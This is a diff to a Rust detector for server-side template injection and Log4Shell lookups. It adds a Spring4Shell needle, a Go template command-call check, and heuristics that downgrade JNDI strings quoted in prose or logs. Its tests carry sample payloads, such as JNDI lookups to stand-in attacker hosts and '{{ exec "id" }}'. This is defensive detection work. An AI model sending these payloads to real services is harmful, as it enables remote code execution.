@@ -181,6 +181,8 @@ const BARE: &[&str] = &[
     "ognlcontext",
     "process.mainmodule",
     "constructor.constructor",
+    // Spring4Shell (CVE-2022-22965): data binding walks to the class loader.
+    "class.module.classloader",
 ];
 
 /// A regex alternation of literal needles (finite automata: linear).
@@ -222,7 +224,8 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
     let code = if s.context == Context::Text { code_spans(text) } else { Vec::new() };
     let mut push = |c: Confidence, rule: &'static str, at: Range<usize>| {
         // A write-up quoting an attack in a code span or block is prose.
-        let quoted = code.iter().any(|r| r.start <= at.start && at.start < r.end);
+        let quoted = code.iter().any(|r| r.start <= at.start && at.start < r.end)
+            || (s.context == Context::Text && text.contains('\n') && log_record(text, at.start));
         let c = if quoted { Confidence::Low } else { c };
         // A decoded view's hits are raised one level by the caller: a low
         // one there (a quoted example behind `&lt;` entities) stays unsaid.
@@ -232,7 +235,8 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
     };
 
     if let Some(at) = jndi(text) {
-        push(Confidence::High, "template.jndi-lookup", at);
+        let c = if s.context == Context::Text && explains_lookup(text, &at) { Confidence::Low } else { Confidence::High };
+        push(c, "template.jndi-lookup", at);
     } else if let Some((at, obfuscated)) = log4j_lookup(text) {
         // A Log4j lookup without JNDI reads the environment into a log line
         // (`${env:AWS_SECRET_ACCESS_KEY}`, `${sys:user.name}`): an injected
@@ -263,7 +267,7 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
         }
         let backtick = matches!(e.kind, Kind::Erb) && body.contains('`')
             || text.get(e.span.start..e.span.start + 2) == Some("#{") && body.trim_start().starts_with('`');
-        if CODE_EXEC_RE.as_ref().is_some_and(|re| re.is_match(&sq)) || backtick {
+        if CODE_EXEC_RE.as_ref().is_some_and(|re| re.is_match(&sq)) || backtick || go_exec(body) {
             exec_found = true;
             push(Confidence::High, "template.code-execution", e.span.clone());
             continue;
@@ -292,12 +296,60 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
     }
 }
 
+/// A Go template action that calls a command-running function or method
+/// with a string (`{{ exec "id" }}`, `{{ .System "id" }}`,
+/// `{{ call .Exec "ls" }}`); Helm and Hugo call `include`, `printf`,
+/// `.GetPage` the same way.
+fn go_exec(body: &str) -> bool {
+    let b = body.trim_matches(|c: char| c == '{' || c == '}' || c == '-' || c.is_whitespace());
+    let b = b.strip_prefix("call ").map_or(b, str::trim_start);
+    let Some((name, rest)) = b.split_once(char::is_whitespace) else { return false };
+    let name = name.trim_start_matches('.').to_ascii_lowercase();
+    matches!(name.as_str(), "exec" | "system" | "shell" | "cmd" | "command" | "run" | "popen" | "execute")
+        && rest.trim_start().starts_with(['"', '`'])
+}
+
+/// Whether the JNDI lookup at `at` is quoted by prose that explains it
+/// (an advisory, an encyclopedia entry) rather than injected: the text is
+/// several sentences of prose around the lookup, and either the lookup is
+/// elided (`${jndi:ldap://...}`: no usable target) or the prose names the
+/// vulnerability it illustrates (Log4j, its CVE). A payload sent to a
+/// logger needs neither sentences nor the name of the bug.
+fn explains_lookup(text: &str, at: &Range<usize>) -> bool {
+    let before = text.get(..at.start).unwrap_or("");
+    let after = text.get(at.end..).unwrap_or("");
+    let words = |t: &str| t.split_whitespace().filter(|w| w.chars().any(char::is_alphabetic)).count();
+    let sentences = text.matches(". ").count() + text.matches(".\n").count() + usize::from(text.trim_end().ends_with('.'));
+    // Prose on both sides of the lookup, in at least two sentences.
+    if words(before) < 4 || words(after) < 3 || sentences < 2 || words(text) < 15 {
+        return false;
+    }
+    let lookup = text.get(at.clone()).unwrap_or("");
+    let elided = lookup.contains("...") || lookup.contains('\u{2026}');
+    let lower = text.to_ascii_lowercase();
+    let named = lower.contains("log4") || lower.contains("cve-2021-44228") || lower.contains("cve-2021-45046");
+    elided || named
+}
+
 /// `7*7`, `7*'7'`, `1337*1337`: the arithmetic an SSTI probe asks the
 /// engine to evaluate (quotes already squashed away).
 fn is_probe(core: &str) -> bool {
     let Some((a, b)) = core.split_once('*') else { return false };
     let num = |x: &str| !x.is_empty() && x.len() <= 8 && x.bytes().all(|c| c.is_ascii_digit());
     num(a) && num(b)
+}
+
+/// Whether the line holding byte `at` is a request log record (an access,
+/// WAF or IDS log line): it starts with a timestamp, an address or a `[`
+/// bracketed date, and names an HTTP method or protocol. An attack there
+/// is a record of one that was sent, not one being sent.
+pub(crate) fn log_record(text: &str, at: usize) -> bool {
+    let start = text.get(..at).and_then(|h| h.rfind('\n')).map_or(0, |p| p + 1);
+    let end = text.get(at..).and_then(|t| t.find('\n')).map_or(text.len(), |p| at + p);
+    let line = text.get(start..end).unwrap_or("").trim_start();
+    let head = line.as_bytes().first().is_some_and(|c| c.is_ascii_digit() || *c == b'[');
+    let http = ["GET ", "POST ", "PUT ", "HEAD ", "DELETE ", "HTTP/1.", "HTTP/2"].iter().any(|m| line.contains(m));
+    head && http
 }
 
 /// Markdown code spans and fenced blocks (byte ranges).
@@ -781,6 +833,27 @@ mod tests {
         assert_eq!(top("T(java.lang.Runtime).getRuntime().exec('id')"), Some(Confidence::Medium));
         assert_eq!(top("x.__globals__"), Some(Confidence::Medium));
         assert_eq!(top_in("def f(cls): return cls.__subclasses__()", Context::Code), None);
+    }
+
+    #[test]
+    fn go_template_command_calls() {
+        assert_eq!(top("{{ .System \"id\" }}"), Some(Confidence::High));
+        assert_eq!(top("{{ exec \"id\" }}"), Some(Confidence::High));
+        assert_eq!(top("{{ include \"app.labels\" . | nindent 4 }}"), None);
+        assert_eq!(top("{{ .Site.GetPage \"/about\" }}"), None);
+    }
+
+    #[test]
+    fn jndi_explained_in_prose_is_low() {
+        let wiki = "Log4Shell (CVE-2021-44228) was a zero-day vulnerability in Log4j. The exploit string has the form ${jndi:ldap://example.com/a}, causing the server to perform a JNDI lookup.";
+        assert_eq!(top_in(wiki, Context::Text), Some(Confidence::Low));
+        let advisory = "Our services are not affected. We added WAF rules that block lookup strings such as ${jndi:ldap://...} in headers. Contact us with questions.";
+        assert_eq!(top_in(advisory, Context::Text), Some(Confidence::Low));
+        assert_eq!(top_in("fix typo ${jndi:ldaps://x.attacker.example:636/Exploit}", Context::Text), Some(Confidence::High));
+        assert_eq!(
+            top_in("Hello team. Please check ${jndi:ldap://198.51.100.7/a} when you can. Thanks for the help.", Context::Text),
+            Some(Confidence::High)
+        );
     }
 }
 
